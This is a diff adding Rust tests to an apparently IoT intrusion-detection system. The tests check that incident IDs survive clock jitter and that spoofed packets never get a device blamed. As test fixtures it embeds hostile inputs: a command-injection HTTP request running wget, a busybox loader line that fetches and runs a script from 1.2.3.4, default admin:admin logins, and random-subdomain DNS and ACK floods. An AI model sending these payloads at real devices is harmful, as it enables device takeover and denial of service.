@@ -139,6 +139,39 @@ fn replaying_gives_the_same_ids() {
 }
 
 #[test]
+fn copies_in_any_order_and_clocks_a_millisecond_off_give_the_same_ids() {
+    let mut faults = Vec::new();
+    for name in FAMILIES {
+        let plain = world(name, 6, &unchanged(6));
+        let ids = |tape: &Tape| -> Vec<String> {
+            let found = incidents(tape, &plain.truth.home);
+            let mut ids: Vec<_> = found
+                .iter()
+                .filter(|incident| incident.severity >= Severity::Medium)
+                .map(|incident| incident.id.to_string())
+                .collect();
+            ids.sort();
+            ids
+        };
+        let before = ids(&plain.tape);
+        for (what, most) in [("the other copy first", 8_i64), ("a millisecond off", 1_000)] {
+            // Each conversation on the link is taken at a place of its own, whose clock is off by as much.
+            let mut tape = Tape::default();
+            for (at, frame) in plain.tape.frames() {
+                let ends = frame[..6].iter().zip(&frame[6..12]).map(|(a, b)| i64::from(a ^ b));
+                tape.put(at + ends.sum::<i64>() * 7_919 % most, frame);
+            }
+            tape.sort();
+            let after = ids(&tape);
+            if before != after {
+                faults.push(format!("{name}, {what}: {before:?} became {after:?}"));
+            }
+        }
+    }
+    assert!(faults.is_empty(), "{}", faults.join("\n"));
+}
+
+#[test]
 fn two_disjoint_networks_give_what_each_gives_alone() {
     let mut faults = Vec::new();
     for (one, two) in [
@@ -224,6 +257,79 @@ fn nobody_is_called_attacker_or_infected_for_forged_packets() {
                 let found = incidents_on(link, &world.tape, &world.truth.home);
                 assert_eq!(acting(&found), Vec::<IpAddr>::new(), "{name}, seed {seed}, {link:?}");
             }
+        }
+    }
+}
+
+/// Single packets that pretend to be somebody's, as one who hears no answer can send them.
+#[test]
+fn nobody_is_acted_against_for_what_was_said_in_his_name() {
+    let mut world = World::new("in somebody's name", 1);
+    let camera = world.device();
+    let others = world.devices(10);
+    let cloud = world.outside();
+    for device in others.iter().chain([&camera]) {
+        let (from, until) = (world.start, world.start + 600 * world::SECOND);
+        world.everyday(device, from, until);
+        // The cloud is known: a conversation was held with it.
+        let (mut talk, mut own) = world.talk(from + world::SECOND, *device, cloud, 443);
+        talk.tls(&mut own, "cloud.example").sealed_up(&mut own, 300).sealed_down(&mut own, 300).close();
+    }
+    let outside = Host { mac: world.gateway.mac, ..cloud };
+    let liar = Host { mac: world.gateway.mac, ..camera };
+    let aim = world.outside();
+    let at = world.start + 300 * world::SECOND;
+    let data = |src: &Host, dst: &Host, ports: (u16, u16), payload: &[u8]| {
+        traffic::tcp(src, dst, ports, 77_777, 99, traffic::PSH | traffic::ACK, payload)
+    };
+    let mut lies: Vec<(&str, Vec<Vec<u8>>)> = vec![
+        (
+            "a command in a request",
+            vec![data(&outside, &camera, (50_000, 80), b"GET /;wget http://x HTTP/1.1\r\nHost: a\r\n\r\n")],
+        ),
+        (
+            "a loader's line",
+            vec![data(&outside, &camera, (50_001, 23), b"/bin/busybox wget http://1.2.3.4/a; sh a\r\n\r\n")],
+        ),
+    ];
+    lies.push(("a bot's keep-alive", (0..8).map(|_| data(&liar, &aim, (50_002, 666), &[0, 0])).collect()));
+    let syn = |src: &Host, dst: &Host| traffic::tcp(src, dst, (50_003, 23), 1, 0, traffic::SYN, &[]);
+    lies.push(("the cloud scans", others.iter().map(|other| syn(&outside, other)).collect()));
+    let login = b"GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n\r\n";
+    lies.push((
+        "passwords",
+        (0..12).map(|port| data(&outside, &camera, (51_000 + port, 80), login)).collect(),
+    ));
+    let question = |number: u16| {
+        let name = format!("{:08x}.victim.example", u32::from(number).wrapping_mul(2_654_435_761));
+        traffic::udp(&liar, &aim, (52_000 + number, 53), &traffic::dns_question(number, &name, 1, false))
+    };
+    lies.push(("names at random", (0..3_000).map(question).collect()));
+    // Whom a flood of acknowledgements from a service's port reaches has not sent it.
+    let ack = |number: u16| {
+        traffic::tcp(&outside, &camera, (80, 33_000 + number % 30_000), number.into(), 5, traffic::ACK, &[])
+    };
+    lies.push(("acknowledgements", (0..20_000).map(ack).collect()));
+    for (what, frames) in lies {
+        for link in [LinkType::ETHERNET, LinkType::RAW] {
+            let mut tape = Tape::default();
+            tape.append(&world.tape, 0);
+            for (number, frame) in frames.iter().enumerate() {
+                tape.put(at + number as i64 * 500, frame);
+            }
+            tape.sort();
+            let found = incidents_on(link, &tape, &world.truth.home);
+            let acted = found.iter().flat_map(|incident| &incident.assets).filter(|asset| {
+                matches!(asset.role, Role::Attacker | Role::Infected | Role::Controller)
+                    && asset.proof != model::Proof::None
+            });
+            assert_eq!(
+                acted.map(|asset| asset.address).collect::<Vec<_>>(),
+                Vec::<IpAddr>::new(),
+                "{what}, {link:?}"
+            );
+            let blamed = acting(&found);
+            assert!(what != "acknowledgements" || !blamed.contains(&camera.ip), "{what}: {blamed:?}");
         }
     }
 }
